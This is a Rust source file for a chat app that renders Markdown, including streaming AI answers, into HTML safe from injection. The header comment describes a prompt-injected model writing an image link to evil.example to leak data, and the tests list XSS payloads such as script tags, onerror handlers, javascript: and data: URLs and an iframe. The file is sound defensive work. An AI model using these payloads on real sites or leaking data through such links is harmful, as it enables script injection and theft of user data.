//! Markdown to HTML for messages, safe whatever the text: the same function renders a message on
//! the server and a streaming answer in the browser.
//!
//! Safety does not depend on cleaning HTML afterwards, because no HTML from the text is ever let
//! through: CommonMark's raw HTML becomes visible text, every other character is escaped by the
//! renderer, and links keep only `http`, `https`, `mailto` and same-site addresses. Images become
//! links: a model that is tricked into writing `![](https://evil.example/?data=...)` must not make
//! the browser fetch that address.

use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd, html};

use crate::highlight;

/// Renders `text` (CommonMark with tables, strikethrough and task lists) to safe HTML.
pub fn render(text: &str) -> String {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_GFM;
    // A code block's text is gathered and highlighted as a whole (`Some((language, code))`).
    let mut code_block: Option<(String, String)> = None;
    let mut events = Vec::new();
    for event in Parser::new_ext(text, options) {
        if let Some((language, code)) = &mut code_block {
            match event {
                Event::Text(t) => code.push_str(&t),
                Event::End(TagEnd::CodeBlock) => {
                    let html = format!(
                        "{}</code></pre></div>\n",
                        highlight::highlight(code, language)
                    );
                    events.push(Event::Html(CowStr::from(html)));
                    code_block = None;
                }
                _ => {}
            }
            continue;
        }
        events.push(match event {
            // Raw HTML is shown as the text it is.
            Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                title,
                id,
            }) => Event::Start(Tag::Link {
                link_type,
                dest_url: safe_url(dest_url),
                title,
                id,
            }),
            Event::Start(Tag::Image {
                dest_url,
                title,
                id,
                link_type,
            }) => Event::Start(Tag::Link {
                link_type,
                dest_url: safe_url(dest_url),
                title,
                id,
            }),
            Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
            Event::Start(Tag::CodeBlock(kind)) => {
                let language = match kind {
                    CodeBlockKind::Fenced(info) => {
                        info.split_whitespace().next().unwrap_or("").to_owned()
                    }
                    CodeBlockKind::Indented => String::new(),
                };
                let start = code_block_start(&language);
                code_block = Some((language.to_ascii_lowercase(), String::new()));
                Event::Html(CowStr::from(start))
            }
            other => other,
        });
    }
    // A code block still open at the end (an answer still streaming) is closed here.
    if let Some((language, code)) = code_block {
        let html = format!(
            "{}</code></pre></div>\n",
            highlight::highlight(&code, &language)
        );
        events.push(Event::Html(CowStr::from(html)));
    }
    let mut out = String::with_capacity(text.len() * 3 / 2);
    html::push_html(&mut out, events.into_iter());
    out
}

/// A streaming answer's Markdown, rendered a block at a time, so that the work per token follows
/// the length of the block being written, not the answer's: a 20,000-character answer costs per
/// token what a short one does. The text before the last block boundary is rendered once, a part
/// at a time as the parts complete; only the block still being written is rendered again as text
/// arrives. A boundary is a blank line outside a code fence followed by a line that starts a block
/// of its own (not indented, not a list item, which could continue the list before). Rendered
/// apart, the parts give what the whole text gives (the stored answer is rendered whole anyway).
#[derive(Clone, Debug, Default)]
pub struct LiveMarkdown {
    /// Bytes of the text rendered as completed parts.
    done: usize,
    /// Where the search for the next boundary goes on from (a line start, at or after `done`).
    scanned: usize,
    /// The code fence open at `scanned`: its character and length.
    fence: Option<(char, usize)>,
}

impl LiveMarkdown {
    /// Takes `text` (the answer so far: what was given before, and more). Returns the HTML of the
    /// parts completed since the last call, if any, and the HTML of the part still being written.
    pub fn advance(&mut self, text: &str) -> (Option<String>, String) {
        if text.len() < self.done || !text.is_char_boundary(self.done) {
            // Not a continuation (a new answer): start again.
            *self = Self::default();
        }
        let start = self.done;
        let mut at = self.scanned;
        while let Some(end) = text[at..].find('\n').map(|i| at + i + 1) {
            let line = &text[at..end];
            if let Some((c, n)) = self.fence {
                let t = line.trim();
                if t.len() >= n && t.chars().all(|x| x == c) {
                    self.fence = None;
                }
            } else if let Some(open) = fence_opening(line) {
                self.fence = Some(open);
            } else if line.trim().is_empty() && at > self.done {
                let next = &text[end..];
                match next.chars().next() {
                    // What follows decides; it has not come yet.
                    None => break,
                    Some(c) if !c.is_whitespace() && !starts_list_item(next) => self.done = end,
                    Some(_) => {}
                }
            }
            at = end;
        }
        self.scanned = at;
        let completed = (self.done > start).then(|| render(&text[start..self.done]));
        (completed, render(&text[self.done..]))
    }
}

/// A line that opens a code fence (up to 3 spaces, then 3 or more backticks or tildes): its
/// character and length.
fn fence_opening(line: &str) -> Option<(char, usize)> {
    let indent = line.len() - line.trim_start_matches(' ').len();
    let rest = &line[indent..];
    let c = rest.chars().next().filter(|c| matches!(c, '`' | '~'))?;
    let n = rest.chars().take_while(|&x| x == c).count();
    (indent <= 3 && n >= 3).then_some((c, n))
}

/// Whether `text` starts with a list item (`-`, `*`, `+`, or a number and `.` or `)`, then a
/// space), which would continue a list before it.
fn starts_list_item(text: &str) -> bool {
    let digits = text.chars().take_while(char::is_ascii_digit).count();
    let rest = if digits > 0 {
        match text[digits..].chars().next() {
            Some('.' | ')') => &text[digits + 1..],
            _ => return false,
        }
    } else {
        match text.chars().next() {
            Some('-' | '*' | '+') => &text[1..],
            _ => return false,
        }
    };
    rest.is_empty() || rest.starts_with([' ', '\t', '\n'])
}

/// The frame of a code block: its language and a copy button (the page wires the button).
fn code_block_start(language: &str) -> String {
    let language: String = language
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '+' | '#' | '.'))
        .take(30)
        .collect();
    let class = if language.is_empty() {
        String::new()
    } else {
        format!(r#" class="language-{language}""#)
    };
    format!(
        r#"<div class="code-block"><div class="code-head"><span>{label}</span><button type="button" class="copy-code" data-copy-code>Copy</button></div><pre><code{class}>"#,
        label = if language.is_empty() {
            "code"
        } else {
            &language
        },
    )
}

/// Keeps `http`, `https` and `mailto` addresses and links within the site; anything else
/// (`javascript:`, `data:`, `vbscript:`, ...) becomes `#`.
fn safe_url(url: CowStr<'_>) -> CowStr<'_> {
    let trimmed: String = url
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    let same_site = (trimmed.starts_with('/') && !trimmed.starts_with("//"))
        || trimmed.starts_with('#')
        || trimmed.starts_with('?');
    let allowed = ["http://", "https://", "mailto:"]
        .iter()
        .any(|scheme| trimmed.starts_with(scheme));
    if same_site || allowed {
        url
    } else {
        CowStr::from("#")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_renders() {
        let html = render(
            "# Title\n\n**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done",
        );
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"));
        assert!(html.contains("<code>code</code>"));
        assert!(html.contains("<table>"));
        assert!(html.contains(r#"type="checkbox""#));
    }

    #[test]
    fn code_blocks_get_their_language_and_a_copy_button() {
        let html = render("```rust\nfn main() { println!(\"<hi>\"); }\n```");
        assert!(html.contains(r#"<code class="language-rust">"#), "{html}");
        assert!(html.contains("data-copy-code"));
        assert!(html.contains("&lt;hi&gt;"), "code is escaped: {html}");
        assert!(
            html.contains(r#"<span class="tok-k">fn</span>"#),
            "highlighted: {html}"
        );
        let streaming = render("```python\n# half-written\nprint('<b>')");
        assert!(streaming.ends_with("</code></pre></div>\n"), "{streaming}");
        assert!(!streaming.contains("<b>"), "{streaming}");
        let sneaky = render("```rust\"><script>alert(1)</script>\nx\n```");
        assert!(!sneaky.contains("<script>"), "{sneaky}");
    }

    #[test]
    fn nothing_from_the_text_can_run() {
        let attacks = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "text <b onmouseover=alert(1)>hover</b>",
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "[click]( javascript:alert(1))",
            "[click](java\tscript:alert(1))",
            "[data](data:text/html;base64,PHNjcmlwdD4=)",
            "![img](javascript:alert(1))",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<svg onload=alert(1)>",
            "<iframe src=https://evil.example></iframe>",
        ];
        for attack in attacks {
            let html = render(attack);
            let lower = html.to_lowercase();
            assert!(!lower.contains("<script"), "{attack} → {html}");
            assert!(!lower.contains("<img"), "{attack} → {html}");
            assert!(!lower.contains("<svg"), "{attack} → {html}");
            assert!(!lower.contains("<iframe"), "{attack} → {html}");
            assert!(!lower.contains("<a href=\"javascript"), "{attack} → {html}");
            assert!(!lower.contains("<a href=\"data:"), "{attack} → {html}");
            assert!(!lower.contains("<b "), "{attack} → {html}");
        }
    }

    #[test]
    fn an_answer_cut_off_in_a_long_code_string_renders_in_linear_time() {
        // What the chat page renders for an answer that holds an unclosed 3 MB string of escaped
        // quotes in a code block: well under a second here, unoptimised; with the highlighter
        // that scanned from every quote, 300 KB took seconds and this, hours.
        let text = format!("```json\n{{\"data\": \"{}", "\\\"".repeat(1_500_000));
        let (done, rendered) = std::sync::mpsc::channel();
        // A render that never finishes is left behind; the test process ends without it.
        std::thread::spawn(move || {
            let _ = done.send(render(&text));
        });
        let html = rendered
            .recv_timeout(std::time::Duration::from_secs(20))
            .expect("rendered within 20 s");
        assert!(
            html.ends_with("</code></pre></div>\n"),
            "the block is closed"
        );
    }

    /// An answer streamed a few characters at a time, as tokens come.
    fn streamed(text: &str, token: usize) -> Vec<&str> {
        let mut prefixes = Vec::new();
        let mut end = 0;
        while end < text.len() {
            end = (end + token).min(text.len());
            while !text.is_char_boundary(end) {
                end += 1;
            }
            prefixes.push(&text[..end]);
        }
        prefixes
    }

    #[test]
    fn a_streaming_answer_rendered_a_part_at_a_time_shows_what_the_whole_text_does() {
        let text = "# Plan\n\nFirst, *this*.\n\n```rust\nfn a() {}\n\n\nfn b() {}\n```\n\n1. one\n\n2. two\n\n- x\n  - y\n\n    indented code\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~~~\nno ``` end\n\n~~~~\n\nDone, ok? ünï\n";
        let mut live = LiveMarkdown::default();
        let mut shown = String::new();
        for prefix in streamed(text, 3) {
            let (completed, tail) = live.advance(prefix);
            shown.push_str(&completed.unwrap_or_default());
            assert_eq!(format!("{shown}{tail}"), render(prefix), "at {prefix:?}");
        }
        assert!(shown.contains("<h1>Plan</h1>"), "parts completed: {shown}");
        assert!(
            shown.contains("</span> b() {}"),
            "the fence with blank lines is one part: {shown}"
        );
    }

    #[test]
    fn a_long_streaming_answer_costs_per_token_what_a_short_one_does() {
        // Paragraphs of about 400 characters, and a code block now and then.
        let paragraph = format!(
            "{}\n\n",
            "Some words of the answer, with **bold**. ".repeat(10)
        );
        let code = "```python\nprint('x')\n\nprint('y')\n```\n\n";
        let answer = |chars: usize| {
            let mut text = String::new();
            while text.len() < chars {
                text.push_str(&paragraph);
                text.push_str(code);
            }
            text
        };
        // The characters rendered per token, in all.
        let cost = |text: &str| {
            let mut live = LiveMarkdown::default();
            let tokens = streamed(text, 4);
            let mut rendered = 0;
            for prefix in &tokens {
                let before = live.done;
                live.advance(prefix);
                rendered += (live.done - before) + (prefix.len() - live.done);
            }
            rendered as f64 / tokens.len() as f64
        };
        let (short, long) = (cost(&answer(2_000)), cost(&answer(20_000)));
        assert!(
            long < short * 1.2,
            "per token: {short:.0} characters rendered for a short answer, {long:.0} for a long one"
        );
        // Rendered whole on every token, the long answer would cost about ten times as much.
        let whole = answer(20_000).len() as f64 / 2.0;
        assert!(long * 10.0 < whole, "{long:.0} against {whole:.0}");
    }

    #[test]
    fn nothing_in_a_streaming_answer_can_run_either() {
        // The attacks split across parts and tokens: every part goes through the same renderer,
        // and no part can open a tag another closes.
        let attacks = [
            "<script>\n\nalert(1)\n\n</script>",
            "<img src=x\n\nonerror=alert(1)>",
            "[click](javascript:alert(1))\n\n![img](https://evil.example/?d=1)",
            "```\n</code></pre><script>alert(1)</script>\n\n```\n\n<svg onload=alert(1)>",
            "<!--\n\n--><iframe src=https://evil.example></iframe>",
        ];
        for attack in attacks {
            let text = format!("Intro.\n\n{attack}\n\nOutro.\n");
            let mut live = LiveMarkdown::default();
            let mut shown = String::new();
            for prefix in streamed(&text, 2) {
                let (completed, tail) = live.advance(prefix);
                shown.push_str(&completed.unwrap_or_default());
                let lower = format!("{shown}{tail}").to_lowercase();
                for bad in ["<script", "<img", "<svg", "<iframe", "href=\"javascript"] {
                    assert!(!lower.contains(bad), "{attack:?} at {prefix:?}: {lower}");
                }
            }
        }
    }

    #[test]
    fn a_new_answer_starts_the_parts_again() {
        let mut live = LiveMarkdown::default();
        let (completed, _) = live.advance("First paragraph.\n\nSecond");
        assert!(completed.is_some());
        let (completed, tail) = live.advance("Other");
        assert_eq!(completed, None);
        assert_eq!(tail, render("Other"));
    }

    #[test]
    fn images_become_links_and_safe_links_stay() {
        let html = render(
            "![chart](https://img.example/c.png) [docs](https://docs.example/a?b=1) [here](/settings)",
        );
        assert!(!html.contains("<img"), "{html}");
        assert!(
            html.contains(r#"<a href="https://img.example/c.png">chart</a>"#),
            "{html}"
        );
        assert!(
            html.contains(r#"<a href="https://docs.example/a?b=1">docs</a>"#),
            "{html}"
        );
        assert!(html.contains(r#"<a href="/settings">here</a>"#), "{html}");
    }
}
